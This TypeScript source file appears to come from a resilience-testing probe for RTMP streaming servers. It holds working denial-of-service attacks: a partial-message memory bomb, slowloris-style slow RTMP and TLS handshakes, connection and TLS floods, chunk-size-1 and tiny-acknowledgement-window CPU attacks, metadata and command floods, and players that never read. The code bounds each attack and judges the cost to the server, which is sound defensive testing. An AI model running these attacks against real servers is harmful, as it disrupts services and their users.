import { randomBytes } from 'node:crypto';
import { encodeAmf0 } from '../../../protocol/amf0.js';
import { ecmaArray } from '../../../protocol/amf-types.js';
import {
  CSID_COMMAND,
  MAX_CSID,
  MSG_ACKNOWLEDGEMENT,
  MSG_COMMAND_AMF0,
  MSG_DATA_AMF0,
  MSG_VIDEO,
  RTMP_VERSION,
} from '../../../protocol/constants.js';
import { windowAckSizeMessage } from '../../../protocol/control.js';
import { type Attack, runAttack } from '../attack/attack.js';
import type { ProbeConnection, ProbeTarget } from '../connection.js';
import type { ProbeContext, ProbeVerdict } from '../context.js';
import { ProbeMedia } from '../media.js';
import { publishOn } from '../relay.js';
import { chunkMessage, declaredHeader } from '../wire/raw-chunks.js';

/**
 * Resilience: attacks a public RTMP ingest meets, each bounded (runAttack) and judged by what it
 * costs the server and whether a healthy viewer beside it keeps every frame. Each attack is
 * built once here; its bounds of connections and bytes follow from the attack settings.
 */

const LARGEST_CHUNK_SIZE = 0x7fffffff;
/** The message a memory bomb declares: 8 MB of video, all of it sent but the last byte. */
const BOMB_DECLARED = 8 * 1024 * 1024;
/** The largest length the 24-bit field declares. */
const LARGEST_DECLARED = 0xffffff;
/** Bytes of an attack by one publisher (loopback takes about 100 MB/s of them: a few seconds). */
const CPU_ATTACK_BYTES = 256 * 1024 * 1024;
/** Dials an attack makes at once. */
const PARALLEL = 16;

let bombPayload: Buffer | null = null;

/** The partial-message memory bomb: handshake, Set Chunk Size 0x7FFFFFFF, 8 MB declared and all but one byte sent. */
export function partialMessage(ctx: ProbeContext): Promise<ProbeVerdict> {
  const n = ctx.attack.connections;
  return runAttack(ctx, { connections: n, bytes: n * (BOMB_DECLARED + 8192) }, async (a) => {
    bombPayload ??= Buffer.alloc(BOMB_DECLARED - 1, 0x80);
    const payload = bombPayload;
    let full = 0;
    await a.each(n, PARALLEL, async () => {
      const c = await a.open({ connect: false });
      if (c === null) return;
      c.setChunkSize(LARGEST_CHUNK_SIZE);
      c.write(declaredHeader(6, MSG_VIDEO, BOMB_DECLARED, 1));
      if ((await a.sendBulk(c, payload)) === payload.length) full++;
    });
    return `${full} sent all but the last byte`;
  });
}

let allDeclared: Buffer | null = null;

/** Every chunk stream id opened with a header declaring the largest length, and nothing more. */
export function declaredChunkStreams(ctx: ProbeContext): Promise<ProbeVerdict> {
  const n = Math.min(ctx.attack.connections, 32);
  // Built once: a header for each chunk stream id 3..65599 (about 900 KB), written to each connection.
  allDeclared ??= Buffer.concat(
    Array.from({ length: MAX_CSID - 2 }, (_, k) => declaredHeader(k + 3, MSG_VIDEO, LARGEST_DECLARED, 1)),
  );
  const headers = allDeclared;
  return runAttack(ctx, { connections: n, bytes: n * (headers.length + 8192) }, async (a) => {
    let all = 0;
    await a.each(n, 4, async () => {
      const c = await a.open({ connect: false });
      if (c === null) return;
      c.setChunkSize(LARGEST_CHUNK_SIZE);
      if ((await a.sendBulk(c, headers)) === headers.length) all++;
    });
    return `${all} declared all ${MAX_CSID - 2} chunk streams at ${LARGEST_DECLARED} bytes each`;
  });
}

/** A partial C0+C1, then a byte a second: connections that never finish the handshake. */
export function slowHandshake(ctx: ProbeContext): Promise<ProbeVerdict> {
  const n = ctx.attack.connections;
  return runAttack(ctx, { connections: n, bytes: n * 2048 }, async (a) => {
    const conns: ProbeConnection[] = [];
    await a.each(n, PARALLEL * 2, async () => {
      const c = await a.dial();
      if (c === null) return;
      c.write(Buffer.concat([Buffer.from([RTMP_VERSION]), randomBytes(100)]));
      conns.push(c);
    });
    await trickleBytes(a, conns);
    return undefined;
  });
}

/** The RTMPS endpoint as plain TCP (to stop inside the TLS handshake), or null. */
function tlsAsTcp(ctx: ProbeContext): ProbeTarget | null {
  const t = ctx.attack.tls;
  return t === null ? null : { ...t, url: { ...t.url, protocol: 'rtmp' } };
}

const NO_TLS: ProbeVerdict = {
  result: 'n/a',
  detail: 'no RTMPS endpoint to attack (the server offers none here, or give --rtmps URL)',
};

/** A TLS ClientHello record header and its first bytes, then a byte a second: TLS handshakes never finished. */
export async function slowTlsHandshake(ctx: ProbeContext): Promise<ProbeVerdict> {
  const target = tlsAsTcp(ctx);
  if (target === null) return NO_TLS;
  const n = ctx.attack.connections;
  // Handshake record (22), TLS 1.0 record version, 512 bytes; ClientHello (1) of 508 bytes, version 1.2.
  const hello = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);
  return runAttack(ctx, { connections: n, bytes: n * 1024 }, async (a) => {
    const conns: ProbeConnection[] = [];
    await a.each(n, PARALLEL * 2, async () => {
      const c = await a.dial(target);
      if (c === null) return;
      c.write(hello);
      conns.push(c);
    });
    await trickleBytes(a, conns);
    return undefined;
  });
}

/** A random byte a second on every connection still open, until the attack stops. */
function trickleBytes(a: Attack, conns: readonly ProbeConnection[]): Promise<void> {
  return trickle(
    a,
    (i) => {
      const c = conns[i]!;
      if (!c.closed) c.write(randomBytes(1));
    },
    () => conns.length,
  );
}

/** Calls `each(i)` for every connection once a second until the attack stops. */
async function trickle(a: Attack, each: (i: number) => void, count: () => number): Promise<void> {
  while (!a.stopped) {
    await Promise.race([a.hold(), new Promise((r) => setTimeout(r, 1000))]);
    if (a.stopped) return;
    for (let i = 0; i < count(); i++) {
      try {
        each(i);
      } catch {
        return;
      }
    }
  }
}

/** Connections as fast as they open, each through handshake and connect, all held. */
export function connectionFlood(ctx: ProbeContext): Promise<ProbeVerdict> {
  const n = ctx.attack.connections;
  return runAttack(ctx, { connections: n, bytes: n * 8192 }, async (a) => {
    let connected = 0;
    await a.each(n, PARALLEL * 4, async () => {
      if ((await a.open()) !== null) connected++;
    });
    return `${connected} connected`;
  });
}

/** Full TLS handshakes as fast as they complete, each connection closed at once (the server's CPU). */
export async function tlsFlood(ctx: ProbeContext): Promise<ProbeVerdict> {
  const target = ctx.attack.tls;
  if (target === null) return NO_TLS;
  const n = ctx.attack.connections;
  return runAttack(ctx, { connections: n, bytes: n * 4096 }, async (a) => {
    let done = 0;
    await a.each(n, PARALLEL, async () => {
      const c = await a.dial(target);
      if (c === null) return;
      done++;
      c.destroy();
    });
    return `${done} TLS handshakes completed`;
  });
}

/** A publisher on a connection of the attack (a fresh name), chunk size `chunkSize`. */
async function attackPublisher(
  a: Attack,
  chunkSize = 4096,
): Promise<{ conn: ProbeConnection; streamId: number } | null> {
  const c = await a.open();
  if (c === null) return null;
  const pub = await publishOn(a.ctx, c, a.ctx.streamName(), { chunkSize });
  return { conn: c, streamId: pub.streamId };
}

/** Messages sent again and again as one block, until the attack stops or the connection closes; resolves with the count. */
async function repeat(a: Attack, c: ProbeConnection, block: Buffer, perBlock: number): Promise<number> {
  let messages = 0;
  while (!a.stopped && !c.closed) {
    try {
      c.write(block);
    } catch {
      break;
    }
    messages += perBlock;
    await a.drained(c.socket);
    // Timers (the healthy stream beside the attack) run between blocks.
    await new Promise((r) => setImmediate(r));
  }
  return messages;
}

/**
 * Video of a publisher in a tight loop, as chunks of `chunkSize`: a fmt-0 message, a fmt-1 one
 * (40 ms later), then a block of fmt-3 messages (same length, 40 ms apart) built once and sent
 * again and again, so timestamps go on rising and the attack costs the probe little CPU.
 */
async function mediaLoop(a: Attack, pub: { conn: ProbeConnection; streamId: number }, chunkSize: number) {
  const frame = new ProbeMedia().avcFrame(true, 0, 1500);
  const message = { csid: 6, typeId: MSG_VIDEO, streamId: pub.streamId, timestamp: 0, payload: frame.payload };
  const start = [
    ...chunkMessage(message, { chunkSize }),
    ...chunkMessage({ ...message, timestamp: 40 }, { chunkSize, fmt: 1, field: 40 }),
  ];
  const block = Buffer.concat(
    Array.from({ length: 32 }, () => chunkMessage(message, { chunkSize, fmt: 3, field: 40 })).flat(),
  );
  try {
    pub.conn.write(start);
  } catch {
    return 0;
  }
  return 2 + (await repeat(a, pub.conn, block, 32));
}

/** A publisher that sets chunk size 1 and sends video: every byte a chunk of its own (the server's CPU). */
export function chunkSizeOne(ctx: ProbeContext): Promise<ProbeVerdict> {
  return runAttack(ctx, { connections: 1, bytes: CPU_ATTACK_BYTES }, async (a) => {
    const pub = await attackPublisher(a);
    if (pub === null) return 'the attacking publisher was refused';
    pub.conn.setChunkSize(1);
    return `${await mediaLoop(a, pub, 1)} video messages in 1-byte chunks`;
  });
}

/** A publisher that asks for an acknowledgement every byte (Window Acknowledgement Size 1), then sends video. */
export function tinyAckWindow(ctx: ProbeContext): Promise<ProbeVerdict> {
  return runAttack(ctx, { connections: 1, bytes: CPU_ATTACK_BYTES }, async (a) => {
    const pub = await attackPublisher(a);
    if (pub === null) return 'the attacking publisher was refused';
    pub.conn.send(windowAckSizeMessage(1));
    const from = pub.conn.messages.length;
    const messages = await mediaLoop(a, pub, 4096);
    const acks = pub.conn.messages.slice(from).filter((m) => m.typeId === MSG_ACKNOWLEDGEMENT).length;
    return `${messages} video messages; ${acks} acknowledgements came back`;
  });
}

/** A publisher sending @setDataFrame onMetaData in a tight loop (a block of 64 built once). */
export function metadataFlood(ctx: ProbeContext): Promise<ProbeVerdict> {
  return runAttack(ctx, { connections: 1, bytes: CPU_ATTACK_BYTES }, async (a) => {
    const pub = await attackPublisher(a);
    if (pub === null) return 'the attacking publisher was refused';
    const block = Buffer.concat(
      Array.from({ length: 64 }, (_, i) =>
        chunkMessage(
          {
            csid: 5,
            typeId: MSG_DATA_AMF0,
            streamId: pub.streamId,
            timestamp: 0,
            payload: encodeAmf0('@setDataFrame', 'onMetaData', ecmaArray({ width: 640, height: 360, n: i })),
          },
          { chunkSize: pub.conn.chunkSize },
        ),
      ).flat(),
    );
    return `${await repeat(a, pub.conn, block, 64)} metadata messages`;
  });
}

/** A connection sending createStream in a tight loop, never waiting for the answers (a block of 64 built once). */
export function commandFlood(ctx: ProbeContext): Promise<ProbeVerdict> {
  return runAttack(ctx, { connections: 1, bytes: CPU_ATTACK_BYTES }, async (a) => {
    const c = await a.open();
    if (c === null) return 'the attacking connection was refused';
    const block = Buffer.concat(
      Array.from({ length: 64 }, (_, i) =>
        chunkMessage(
          {
            csid: CSID_COMMAND,
            typeId: MSG_COMMAND_AMF0,
            streamId: 0,
            timestamp: 0,
            payload: encodeAmf0('createStream', 10 + i, null),
          },
          { chunkSize: c.chunkSize },
        ),
      ).flat(),
    );
    return `${await repeat(a, c, block, 64)} createStream commands`;
  });
}

/** Players of the healthy stream (frames of 100 KB) that never read what the server sends them. */
export function playersNeverRead(ctx: ProbeContext): Promise<ProbeVerdict> {
  const n = Math.min(ctx.attack.connections, 50);
  return runAttack(ctx, { connections: n, bytes: n * 8192, frameBytes: 100_000 }, async (a) => {
    let stalled = 0;
    const name = a.healthyName;
    await a.each(n, PARALLEL, async () => {
      const c = await a.open();
      if (c === null) return;
      const streamId = await c.createStream(ctx.waitMs);
      c.sendCommand('play', null, [name, -2, -1, true], streamId);
      await c.waitStatus((code, level) => code === 'NetStream.Play.Start' || level === 'error', ctx.waitMs, 'play');
      c.socket.pause();
      stalled++;
    });
    return `${stalled} players stopped reading`;
  });
}

/** Connections that send garbage right after connect. */
export function garbageAfterConnect(ctx: ProbeContext): Promise<ProbeVerdict> {
  const n = ctx.attack.connections;
  const garbage = randomBytes(64 * 1024);
  return runAttack(ctx, { connections: n, bytes: n * (garbage.length + 8192) }, async (a) => {
    await a.each(n, PARALLEL, async () => {
      const c = await a.open();
      if (c === null) return;
      c.write(garbage);
    });
    return `${garbage.length} random bytes after connect on each`;
  });
}
